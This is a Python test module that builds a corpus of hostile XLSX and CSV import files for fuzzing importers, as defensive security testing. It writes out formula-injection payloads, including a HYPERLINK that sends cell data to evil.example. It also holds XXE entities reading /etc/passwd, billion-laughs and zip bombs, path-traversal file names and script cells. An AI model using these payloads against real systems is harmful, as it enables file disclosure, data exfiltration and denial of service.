"""A corpus of hostile import files (security goal G4), generated at test time, never committed.

`corpus(datasets)` returns `Sample`s: broken and malicious XLSX (truncated, missing parts, wrong
content types, XXE, zip bombs, far-out cells), CSV in the wrong encoding (TCVN3/ABC and VNI as real
byte sequences, UTF-16, UTF-32, Windows-1258), formula cells, huge cells, wrong types, duplicates,
empty and header-only files, wrong and extra headers, binary garbage and polyglots, tricky names,
files past the size and row limits, NUL bytes. Every sample is bad for every importer: none may
write anything. Run `python -m khcn.core.tests.hostile_corpus DIR` to write the files out.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import sys
import unicodedata
import zipfile
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

# --- Legacy Vietnamese encodings ---------------------------------------------------------------

# TCVN 5712:1993 (VN3, the ".VnTime" fonts typed with ABC): one byte per lower-case letter; capitals
# with a tone mark use the same byte (a capital font shows them upper-case).
_TCVN3 = {
    "ă": 0xA8, "â": 0xA9, "ê": 0xAA, "ô": 0xAB, "ơ": 0xAC, "ư": 0xAD, "đ": 0xAE,
    "Ă": 0xA1, "Â": 0xA2, "Ê": 0xA3, "Ô": 0xA4, "Ơ": 0xA5, "Ư": 0xA6, "Đ": 0xA7,
    "à": 0xB5, "ả": 0xB6, "ã": 0xB7, "á": 0xB8, "ạ": 0xB9,
    "ằ": 0xBB, "ẳ": 0xBC, "ẵ": 0xBD, "ắ": 0xBE, "ặ": 0xC6,
    "ầ": 0xC7, "ẩ": 0xC8, "ẫ": 0xC9, "ấ": 0xCA, "ậ": 0xCB,
    "è": 0xCC, "ẻ": 0xCE, "ẽ": 0xCF, "é": 0xD0, "ẹ": 0xD1,
    "ề": 0xD2, "ể": 0xD3, "ễ": 0xD4, "ế": 0xD5, "ệ": 0xD6,
    "ì": 0xD7, "ỉ": 0xD8, "ĩ": 0xDC, "í": 0xDD, "ị": 0xDE,
    "ò": 0xDF, "ỏ": 0xE1, "õ": 0xE2, "ó": 0xE3, "ọ": 0xE4,
    "ồ": 0xE5, "ổ": 0xE6, "ỗ": 0xE7, "ố": 0xE8, "ộ": 0xE9,
    "ờ": 0xEA, "ở": 0xEB, "ỡ": 0xEC, "ớ": 0xED, "ợ": 0xEE,
    "ù": 0xEF, "ủ": 0xF1, "ũ": 0xF2, "ú": 0xF3, "ụ": 0xF4,
    "ừ": 0xF5, "ử": 0xF6, "ữ": 0xF7, "ứ": 0xF8, "ự": 0xF9,
    "ỳ": 0xFA, "ỷ": 0xFB, "ỹ": 0xFC, "ý": 0xFD, "ỵ": 0xFE,
}  # fmt: skip

# VNI-Windows: the base letter, then one Windows-1252 character for the modifier and/or tone.
_VNI_TONE = {"\u0301": "ù", "\u0300": "ø", "\u0309": "û", "\u0303": "õ", "\u0323": "ï"}
_VNI_CIRCUMFLEX = {"": "â", "\u0301": "á", "\u0300": "à", "\u0309": "å", "\u0303": "ã", "\u0323": "ä"}
_VNI_BREVE = {"": "ê", "\u0301": "é", "\u0300": "è", "\u0309": "ú", "\u0303": "ü", "\u0323": "ë"}
_VNI_I = {"\u0301": "í", "\u0300": "ì", "\u0309": "æ", "\u0303": "ó", "\u0323": "ò"}


def to_tcvn3(text: str) -> bytes:
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        code = _TCVN3.get(ch) or _TCVN3.get(ch.lower()) if not ch.isascii() else None
        out += bytes([code]) if code else ch.encode("ascii", errors="replace")
    return bytes(out)


def to_vni(text: str) -> bytes:
    """VNI-Windows bytes (the font's characters as Windows-1252)."""
    out = []
    for ch in unicodedata.normalize("NFC", text):
        if ch.isascii():
            out.append(ch)
            continue
        if ch in "đĐ":
            out.append("ñ" if ch == "đ" else "Ñ")
            continue
        base, *marks = unicodedata.normalize("NFD", ch)
        upper = base.isupper()
        modifier = next((m for m in marks if m in "\u0302\u0306\u031b"), "")
        tone = next((m for m in marks if m in _VNI_TONE), "")
        if modifier == "\u031b":  # horn: ơ is ô, ư is ö in VNI
            piece = {"o": "ô", "u": "ö"}[base.lower()] + (_VNI_TONE[tone] if tone else "")
        elif modifier == "\u0302":
            piece = base.lower() + _VNI_CIRCUMFLEX[tone]
        elif modifier == "\u0306":
            piece = base.lower() + _VNI_BREVE[tone]
        elif base.lower() == "i" and tone:
            piece = _VNI_I[tone]
        else:
            piece = base.lower() + (_VNI_TONE[tone] if tone else "")
        out.append(piece.upper() if upper else piece)
    return "".join(out).encode("cp1252")


VIETNAMESE = [
    "Việt Nam",
    "Sở Khoa học và Công nghệ tỉnh Hưng Yên",
    "Nguyễn Thị Thuỷ",
    "Trung tâm Kỹ thuật Tiêu chuẩn Đo lường Chất lượng",
    "Công ty cổ phần giống cây trồng Phố Hiến",
    "Hợp tác xã nông nghiệp Đông Tảo",
    "Đánh giá hiệu quả ứng dụng tiến bộ kỹ thuật",
    "Trần Văn Hùng, Lê Thị Hoa, Phạm Quốc Khánh",
]

# --- XLSX building -----------------------------------------------------------------------------

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_CT = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="{main}"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)
_XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WB = (
    f'<?xml version="1.0"?><workbook {_NS} '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WB_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>'
)
_EMPTY_SST = f'<?xml version="1.0"?><sst {_NS}><si><t>x</t></si></sst>'


def _col(n: int) -> str:
    letters = ""
    while n:
        n, rem = divmod(n - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def sheet_xml(rows: Iterable[Sequence[Any]], *, prefix: str = "", extra: str = "") -> str:
    out = [f'<?xml version="1.0"?>{prefix}<worksheet {_NS}><sheetData>']
    for r, row in enumerate(rows, start=1):
        out.append(f'<row r="{r}">')
        for c, value in enumerate(row, start=1):
            ref = f"{_col(c)}{r}"
            if isinstance(value, int | float):
                out.append(f'<c r="{ref}"><v>{value}</v></c>')
            else:
                out.append(f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{_esc(str(value))}</t></is></c>')
        out.append("</row>")
    out.append(extra + "</sheetData></worksheet>")
    return "".join(out)


def xlsx(
    sheet: str | bytes,
    *,
    sst: str | bytes = _EMPTY_SST,
    workbook: str = _WB,
    content_types: str | None = None,
    drop: Sequence[str] = (),
    extra: dict[str, bytes | str] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": content_types if content_types is not None else _CT.format(main=_XLSX_MAIN),
        "_rels/.rels": _RELS,
        "xl/workbook.xml": workbook,
        "xl/_rels/workbook.xml.rels": _WB_RELS,
        "xl/worksheets/sheet1.xml": sheet,
        "xl/sharedStrings.xml": sst,
        **(extra or {}),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in parts.items():
            if name not in drop:
                archive.writestr(name, content)
    return buffer.getvalue()


def table_xlsx(rows: Sequence[Sequence[Any]]) -> bytes:
    return xlsx(sheet_xml(rows))


def _patch_sizes(data: bytes, name: str, size: int) -> bytes:
    """Rewrite the declared uncompressed size of one part (local header and directory)."""
    patched = bytearray(data)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(name)
    struct.pack_into("<I", patched, info.header_offset + 22, size)
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) >= 0:
        length = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46 : pos + 46 + length].decode() == name:
            struct.pack_into("<I", patched, pos + 24, size)
        pos += 4
    return bytes(patched)


def _zeros_deflated(size: int) -> tuple[bytes, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1 << 20)
    out = [compressor.compress(chunk) for _ in range(size >> 20)]
    out.append(compressor.flush())
    return b"".join(out), zlib.crc32(b"\0" * 0) if size == 0 else _crc_zeros(size)


def _crc_zeros(size: int) -> int:
    crc = 0
    chunk = b"\0" * (1 << 20)
    for _ in range(size >> 20):
        crc = zlib.crc32(chunk, crc)
    return crc


def overlapping_bomb(copies: int, size: int) -> bytes:
    """Fifield's non-recursive bomb: many directory entries pointing at one deflated part."""
    payload, crc = _zeros_deflated(size)
    name = b"xl/worksheets/sheet1.xml"
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(payload), size, len(name), 0)
    body = local + name + payload
    wb = xlsx(sheet_xml([["a"]]))
    # Keep a real workbook.xml first so the file looks like a workbook.
    head = bytearray()
    directory = bytearray()
    entries = 0
    with zipfile.ZipFile(io.BytesIO(wb)) as archive:
        for info in archive.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                continue
            data = archive.read(info)
            offset = len(head)
            comp = zlib.compressobj(6, zlib.DEFLATED, -15)
            deflated = comp.compress(data) + comp.flush()
            fname = info.filename.encode()
            crc2 = zlib.crc32(data)
            head += struct.pack(
                "<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc2, len(deflated), len(data), len(fname), 0
            )
            head += fname + deflated
            directory += (
                struct.pack(
                    "<4s6H3I5H2I",
                    b"PK\x01\x02",
                    20,
                    20,
                    0,
                    8,
                    0,
                    0,
                    crc2,
                    len(deflated),
                    len(data),
                    len(fname),
                    0,
                    0,
                    0,
                    0,
                    0,
                    offset,
                )
                + fname
            )
            entries += 1
    shared = len(head)
    head += body
    for n in range(copies):
        fname = name if n == 0 else f"xl/worksheets/sheet{n + 1}.xml".encode()
        directory += (
            struct.pack(
                "<4s6H3I5H2I",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(payload),
                size,
                len(fname),
                0,
                0,
                0,
                0,
                0,
                shared,
            )
            + fname
        )
        entries += 1
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, len(directory), len(head), 0)
    return bytes(head + directory + end)


# --- The corpus --------------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    category: str
    name: str
    data: bytes


def csv_bytes(rows: Sequence[Sequence[Any]], encoding: str = "utf-8-sig", sep: str = ",") -> bytes:
    import csv

    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=sep, lineterminator="\r\n")
    for row in rows:
        writer.writerow(row)
    return buffer.getvalue().encode(encoding)


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


def _legacy_rows(headers: Sequence[str]) -> list[list[str]]:
    return [list(headers)] + [[VIETNAMESE[(r + c) % len(VIETNAMESE)] for c in range(len(headers))] for r in range(25)]


@functools.lru_cache(maxsize=4)
def _corpus(datasets: tuple[Any, ...]) -> tuple[Sample, ...]:
    return tuple(_build(datasets))


def corpus(datasets: Sequence[Any]) -> list[Sample]:
    """The samples for these datasets (built once per process)."""
    return list(_corpus(tuple(datasets)))


def _build(datasets: Sequence[Any]) -> list[Sample]:  # noqa: C901 - a list of cases, read top to bottom
    rng = random.Random(20260511)
    out: list[Sample] = []

    def add(category: str, name: str, data: bytes) -> None:
        out.append(Sample(category, name, data))

    # The organisations template: a file that is well-formed for one importer at least.
    org_headers = ["Tên tổ chức", "Mã số thuế", "Loại hình"]
    good = table_xlsx([org_headers, ["Công ty Giống", "0900123456", "Doanh nghiệp"]])

    # Broken XLSX.
    for fraction in (0.05, 0.2, 0.4, 0.6, 0.8, 0.9, 0.97, 0.995):
        add("xlsx-broken", f"cat-{int(fraction * 1000)}.xlsx", good[: int(len(good) * fraction)])
    for part in (
        "[Content_Types].xml",
        "_rels/.rels",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/worksheets/sheet1.xml",
    ):
        add(
            "xlsx-broken",
            f"thieu-{part.replace('/', '_')}.xlsx",
            xlsx(sheet_xml([org_headers, ["x", 1, 2]]), drop=[part]),
        )
    sheet_ss = (
        f'<?xml version="1.0"?><worksheet {_NS}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c>'
        '<c r="B1" t="s"><v>7</v></c></row></sheetData></worksheet>'
    )
    add("xlsx-broken", "thieu-sharedStrings.xlsx", xlsx(sheet_ss, drop=["xl/sharedStrings.xml"]))
    add("xlsx-broken", "chuoi-ngoai-bang.xlsx", xlsx(sheet_ss))
    docx_ct = _CT.format(main="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    add("xlsx-broken", "kieu-noi-dung-docx.xlsx", xlsx(sheet_xml([org_headers]), content_types=docx_ct))
    add("xlsx-broken", "kieu-noi-dung-rong.xlsx", xlsx(sheet_xml([org_headers]), content_types="<Types/>"))
    macro_ct = _CT.format(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    add(
        "xlsx-broken",
        "macro.xlsx",
        xlsx(
            sheet_xml([["=cmd|' /C calc'!A0"]]),
            content_types=macro_ct,
            extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64},
        ),
    )
    add(
        "xlsx-broken",
        "word-doi-ten.xlsx",
        xlsx("<w:document/>", drop=["xl/worksheets/sheet1.xml"], extra={"word/document.xml": "<w:document/>"}),
    )
    add("xlsx-broken", "xml-hong.xlsx", xlsx('<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1"'))
    add("xlsx-broken", "khong-co-sheetData.xlsx", xlsx(f'<?xml version="1.0"?><worksheet {_NS}/>'))
    corrupted = bytearray(good)
    info = zipfile.ZipFile(io.BytesIO(good)).getinfo("xl/worksheets/sheet1.xml")
    corrupted[info.header_offset + 60] ^= 0xFF
    add("xlsx-broken", "sai-crc.xlsx", bytes(corrupted))
    add("xlsx-broken", "nen-bzip2.xlsx", xlsx(sheet_xml([org_headers]), compression=zipfile.ZIP_BZIP2))
    add("xlsx-broken", "nen-lzma.xlsx", xlsx(sheet_xml([org_headers]), compression=zipfile.ZIP_LZMA))
    encrypted = bytearray(good)
    struct.pack_into("<H", encrypted, 6, 1)  # the first part claims to be encrypted
    pos = good.find(b"PK\x01\x02")
    struct.pack_into("<H", encrypted, pos + 8, 1)
    add("xlsx-broken", "ma-hoa.xlsx", bytes(encrypted))
    add("xlsx-broken", "zip-rong.xlsx", b"PK\x05\x06" + b"\0" * 18)
    add("xlsx-broken", "zip-rong-dau-pk.xlsx", b"PK\x03\x04" + b"\0" * 26)
    add("xlsx-broken", "mz-truoc-zip.xlsx", b"MZ\x90\x00" + b"\0" * 60 + good)
    add("xlsx-broken", "so-dong-sai.xlsx", xlsx(sheet_xml([org_headers]).replace('r="1"', 'r="-5"', 1)))
    add("xlsx-broken", "ten-trung.xlsx", _duplicate_entry(good))

    # XML external entities and entity expansion.
    sheet_s0 = (
        f'<?xml version="1.0"?><worksheet {_NS}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c>'
        '<c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>2</v></c></row>'
        '<row r="2"><c r="A2" t="s"><v>3</v></c><c r="B2" t="s"><v>3</v></c>'
        '<c r="C2" t="s"><v>3</v></c></row></sheetData></worksheet>'
    )

    def sst(doctype: str, value: str) -> str:
        return (
            f'<?xml version="1.0"?>{doctype}<sst {_NS}><si><t>Tên tổ chức</t></si><si><t>Mã số thuế</t></si>'
            f"<si><t>Loại hình</t></si><si><t>{value}</t></si></sst>"
        )

    add(
        "xxe",
        "xxe-passwd.xlsx",
        xlsx(sheet_s0, sst=sst('<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;")),
    )
    add(
        "xxe",
        "xxe-http.xlsx",
        xlsx(sheet_s0, sst=sst('<!DOCTYPE sst [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>', "&x;")),
    )
    add(
        "xxe",
        "xxe-tham-so.xlsx",
        xlsx(sheet_s0, sst=sst('<!DOCTYPE sst [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]>', "a")),
    )
    laughs = "".join(
        f'<!ENTITY l{i} "{"&l" + str(i - 1) + ";" if i else "lol"}{("&l" + str(i - 1) + ";") * 9 if i else ""}">'
        for i in range(10)
    )
    add("xxe", "billion-laughs.xlsx", xlsx(sheet_s0, sst=sst(f"<!DOCTYPE sst [{laughs}]>", "&l9;")))
    add(
        "xxe",
        "xxe-workbook.xlsx",
        xlsx(
            sheet_s0,
            sst=sst("", "a"),
            workbook=_WB.replace("<workbook", '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook', 1),
        ),
    )
    add(
        "xxe",
        "xxe-sheet.xlsx",
        xlsx(
            sheet_xml(
                [org_headers, ["&x;", 1, 2]], prefix='<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            ).replace("&amp;x;", "&x;")
        ),
    )
    add(
        "xxe",
        "xinclude.xlsx",
        xlsx(
            sst=sst(
                "", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
            ),
            sheet=sheet_s0,
        ),
    )

    # Zip bombs and sheets that would make the reader allocate without bound.
    bomb_sheet = sheet_xml([org_headers]).replace("</sheetData>", "</sheetData>" + " " * (24 << 20), 1)
    add("bomb", "bom-24MB-1000-lan.xlsx", xlsx(bomb_sheet))
    add("bomb", "bom-sst.xlsx", xlsx(sheet_s0, sst=sst("", "a" * (24 << 20))))
    add("bomb", "khai-2GB.xlsx", _patch_sizes(good, "xl/worksheets/sheet1.xml", 2_000_000_000))
    add("bomb", "khai-nho-hon-that.xlsx", _patch_sizes(xlsx(bomb_sheet), "xl/worksheets/sheet1.xml", 1000))
    add("bomb", "bom-chong-lan.xlsx", overlapping_bomb(200, 8 << 20))
    many = {f"xl/media/image{i}.xml": "" for i in range(5000)}
    add("bomb", "5000-thanh-phan.xlsx", xlsx(sheet_xml([org_headers]), extra=many))
    inner = xlsx(bomb_sheet)
    add("bomb", "zip-long-zip.xlsx", xlsx(sheet_xml([org_headers]), extra={"xl/embeddings/inner.zip": inner * 3}))
    for name, extra_xml in (
        ("o-XFD1048576.xlsx", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        ("o-XFD1.xlsx", '<row r="2"><c r="XFD2"><v>1</v></c></row>'),
        ("o-A1048576.xlsx", '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
        ("o-dong-khong-r.xlsx", '<row r="1048576"><c><v>1</v></c><c><v>1</v></c></row>'),
        ("o-tab-truoc-r.xlsx", '<row\tr="999999"><c\tr="ZZ999999"><v>1</v></c></row>'),
        ("o-ZZ300000.xlsx", '<row r="300000"><c r="ZZ300000"><v>1</v></c></row>'),
        ("o-CZ250000.xlsx", '<row r="250000"><c r="CZ250000"><v>1</v></c></row>'),
    ):
        add("bomb", name, xlsx(sheet_xml([org_headers], extra=extra_xml)))

    # CSV in the wrong encoding.
    for headers, label in ((org_headers, "to-chuc"), (["Họ và tên", "Học hàm", "Học vị", "Thư điện tử"], "ca-nhan")):
        text_rows = _legacy_rows(headers)
        as_text = "\r\n".join(",".join(row) for row in text_rows) + "\r\n"
        tcvn3 = to_tcvn3(as_text)
        vni = to_vni(as_text)
        add("encoding-legacy", f"tcvn3-{label}.csv", tcvn3)
        add("encoding-legacy", f"vni-{label}.csv", vni)
        # The same text as Unicode: what a .VnTime or VNI-Times sheet saved as "CSV UTF-8" holds.
        add(
            "encoding-legacy",
            f"tcvn3-trong-utf8-{label}.csv",
            b"\xef\xbb\xbf" + tcvn3.decode("cp1252", "replace").encode(),
        )
        add("encoding-legacy", f"vni-trong-utf8-{label}.csv", b"\xef\xbb\xbf" + vni.decode("cp1252").encode())
        legacy_cells = [list(headers)] + [[tcvn3.decode("cp1252", "replace")[:60]] * len(headers) for _ in range(20)]
        add("encoding-legacy", f"tcvn3-{label}.xlsx", table_xlsx(legacy_cells))
        vni_cells = [[to_vni(v).decode("cp1252") for v in row] for row in _legacy_rows(headers)]
        add("encoding-legacy", f"vni-{label}.xlsx", table_xlsx(vni_cells))
        # Unicode headers, legacy data: the usual case of an old sheet with a new header row.
        mixed = [list(headers)] + [[to_tcvn3(v).decode("cp1252", "replace") for v in row] for row in text_rows[1:]]
        add("encoding-legacy", f"tieu-de-unicode-du-lieu-tcvn3-{label}.csv", csv_bytes(mixed))
        mixed_vni = [list(headers)] + [[to_vni(v).decode("cp1252") for v in row] for row in text_rows[1:]]
        add("encoding-legacy", f"tieu-de-unicode-du-lieu-vni-{label}.csv", csv_bytes(mixed_vni))
        add("encoding", f"utf16le-bom-{label}.csv", csv_bytes(text_rows, "utf-16"))
        add("encoding", f"utf16be-bom-{label}.csv", b"\xfe\xff" + as_text.encode("utf-16-be"))
        add("encoding", f"utf16le-khong-bom-{label}.csv", as_text.encode("utf-16-le"))
        add("encoding", f"utf16be-khong-bom-{label}.csv", as_text.encode("utf-16-be"))
        add("encoding", f"utf32-{label}.csv", as_text.encode("utf-32"))
        add("encoding", f"cp1258-{label}.csv", unicodedata.normalize("NFD", as_text).encode("cp1258", "replace"))
        add("encoding", f"tron-utf8-cp1258-{label}.csv", as_text.encode() + as_text.encode("cp1258", "replace"))
    add("encoding", "latin1.csv", "Tên tổ chức,Mã số thuế\r\nCafé Müller,0101\r\n".encode("latin-1", "replace"))
    add("encoding", "shift-jis.csv", "名前,番号\r\n東京,1\r\n".encode("shift_jis"))
    add(
        "encoding",
        "utf8-hong.csv",
        b"\xef\xbb\xbfT\xc3\xaan t\xe1\xbb\x95 ch\xe1\xbb\xa9c\r\n\xc3\x28\xa0\xa1,\xed\xa0\x80\r\n",
    )
    add("encoding", "utf8-qua-dai.csv", b"T\xc3\xaan t\xe1\xbb\x95 ch\xe1\xbb\xa9c\r\n\xc0\xaf\xe0\x80\xaf\r\n")
    add("encoding", "bom-roi-rac.csv", b"\xef\xbb\xbf" + bytes(rng.randrange(128, 256) for _ in range(300)))

    # Per dataset: formula cells, wrong types, huge cells, header only, extra and wrong columns.
    for dataset in datasets:
        headers = list(dataset.headers)
        slug = dataset.name
        rows = [headers] + [[FORMULAS[(r + c) % len(FORMULAS)] for c in range(len(headers))] for r in range(6)]
        add("formula", f"{slug}-cong-thuc.csv", csv_bytes(rows))
        add(
            "wrong-types",
            f"{slug}-sai-kieu.csv",
            csv_bytes([headers, ["không phải ngày/số 31/02/2024 abc"] * len(headers)]),
        )
        add("header-only", f"{slug}-chi-tieu-de.csv", csv_bytes([headers]))
        add(
            "header-only",
            f"{slug}-chi-tieu-de-va-dong-trong.csv",
            csv_bytes([headers, [""] * len(headers), [" "] * len(headers)]),
        )
        add("columns", f"{slug}-cot-thua.csv", csv_bytes([[*headers, "Ghi chú riêng"], ["x"] * (len(headers) + 1)]))
        add("columns", f"{slug}-cot-trung.csv", csv_bytes([[*headers, headers[0]], ["x"] * (len(headers) + 1)]))
        add("huge-cell", f"{slug}-o-1MB.csv", csv_bytes([headers, ["Đ" * (1 << 19)] * 1 + ["x"] * (len(headers) - 1)]))
    for dataset in datasets[:8]:
        headers = list(dataset.headers)
        rows = [headers] + [[FORMULAS[(r + c) % len(FORMULAS)] for c in range(len(headers))] for r in range(6)]
        add("formula", f"{dataset.name}-cong-thuc.xlsx", table_xlsx(rows))
        add("header-only", f"{dataset.name}-chi-tieu-de.xlsx", table_xlsx([headers]))
        add(
            "huge-cell",
            f"{dataset.name}-o-1MB.xlsx",
            table_xlsx([headers, ["ệ" * (1 << 20)] + ["x"] * (len(headers) - 1)]),
        )

    # Duplicates: within the file (and, in the test, against a stored record).
    dup_rows = [
        org_headers,
        ["Công ty Trùng", "0900999999", "Doanh nghiệp"],
        ["Công ty Trùng", "0900999999", "Doanh nghiệp"],
    ]
    add("duplicates", "to-chuc-trung-trong-tep.csv", csv_bytes(dup_rows))
    add("duplicates", "to-chuc-trung-trong-tep.xlsx", table_xlsx(dup_rows))
    add(
        "duplicates",
        "to-chuc-trung-voi-da-luu.csv",
        csv_bytes(
            [
                org_headers,
                ["Công ty Đã Lưu", "0900000001", "Doanh nghiệp"],
                ["Công ty Đã Lưu 2", "0900000001", "Doanh nghiệp"],
            ]
        ),
    )
    add(
        "duplicates",
        "to-chuc-trung-ten.csv",
        csv_bytes([org_headers, ["HTX A", "", "Hợp tác xã"], ["HTX A", "", "Hợp tác xã"]]),
    )

    # Empty, blank, wrong headers.
    add("empty", "rong.csv", b"")
    add("empty", "rong.xlsx", b"")
    add("empty", "chi-bom.csv", b"\xef\xbb\xbf")
    add("empty", "chi-dau-cach.csv", b" \r\n\r\n \t \r\n")
    add("empty", "bang-tinh-rong.xlsx", xlsx(f'<?xml version="1.0"?><worksheet {_NS}><sheetData/></worksheet>'))
    add("columns", "sai-tieu-de.csv", csv_bytes([["Name", "Tax ID", "Kind"], ["A", "1", "x"]]))
    add("columns", "sai-tieu-de.xlsx", table_xlsx([["Họ tên", "Ngày", "Số tiền"], ["A", "1/1/2024", 5]]))
    add("columns", "tieu-de-so.xlsx", table_xlsx([[1, 2, 3], [4, 5, 6]]))
    add("columns", "mot-o-dai.csv", b"a" * 200_000)

    # Binary garbage, other formats, polyglots.
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    png = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + bytes(17)
    for ext in ("xlsx", "csv"):
        add("garbage", f"ngau-nhien.{ext}", bytes(rng.randrange(256) for _ in range(4096)))
        add("garbage", f"ngau-nhien-khong-nul.{ext}", bytes(rng.randrange(1, 256) for _ in range(4096)))
        add("garbage", f"pdf.{ext}", pdf)
        add("garbage", f"png.{ext}", png)
        add("garbage", f"exe.{ext}", b"MZ\x90\x00\x03" + bytes(200) + b"This program cannot be run in DOS mode")
        add("garbage", f"elf.{ext}", b"\x7fELF\x02\x01\x01" + bytes(120))
        add("garbage", f"gzip.{ext}", b"\x1f\x8b\x08\x00" + bytes(20))
        add(
            "garbage",
            f"xls-cu.{ext}",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "Workbook".encode("utf-16-le"),
        )
        add(
            "garbage",
            f"html.{ext}",
            b"<html><body><table><tr><td>T\xc3\xaan t\xe1\xbb\x95 ch\xe1\xbb\xa9c</td></tr></table><script>alert(1)</script></body></html>",
        )
        add("garbage", f"pdf-cong-zip.{ext}", pdf + good)
        add("garbage", f"gif-cong-zip.{ext}", b"GIF89a" + bytes(20) + good)
    add("garbage", "eicar.csv", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*\r\n")
    add("garbage", "xlsx-ten-csv.csv", table_xlsx([["Tên tổ chức", "Loại hình"], ["A", "không có"]]))
    add(
        "garbage",
        "script-trong-o.csv",
        csv_bytes([org_headers, ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "x"]]),
    )
    add(
        "garbage",
        "ngoac-kep-le.csv",
        b'Ten to chuc,Ma so thue,Loai hinh\r\n"abc,"def,khong\r\n"g""h"x,1,khong\r\n' + b'"' + b"a" * 10 + b"\r\n",
    )

    # Names: double extensions, traversal, right-to-left override, controls.
    bad_names = [
        "bao-cao.csv.exe",
        "bao-cao.exe.csv",
        "bao-cao.xlsx.php",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini.csv",
        "/etc/cron.d/x.csv",
        "C:\\Windows\\System32\\x.xlsx",
        "hoa-don\u202eslx.exe",
        "tep\u202excsl.csv",
        "a.csv\x00.exe",
        "tên\r\nContent-Type: text/html.csv",
        "x" * 1000 + ".csv",
        "....csv",
        "..",
        "",
        "CON.csv",
    ]
    for name in bad_names:
        add("names", name, csv_bytes([org_headers, ["x", "khong-phai-mst", "không có loại này"]]))

    # Past the limits.
    add(
        "limits",
        "qua-50MB.csv",
        b"\xef\xbb\xbf" + ",".join(org_headers).encode() + b"\r\n" + b"x,1,2\r\n" * (7_500_000 + 10),
    )
    add("limits", "300001-dong.csv", csv_bytes([["Tên tổ chức"]]) + b"x\r\n" * 300_001)
    rows_xml = "".join(f'<row r="{r}"><c r="A{r}"><v>1</v></c></row>' for r in range(2, 300_003))
    add("limits", "300001-dong.xlsx", xlsx(sheet_xml([["Tên tổ chức"]], extra=rows_xml)))

    # NUL bytes.
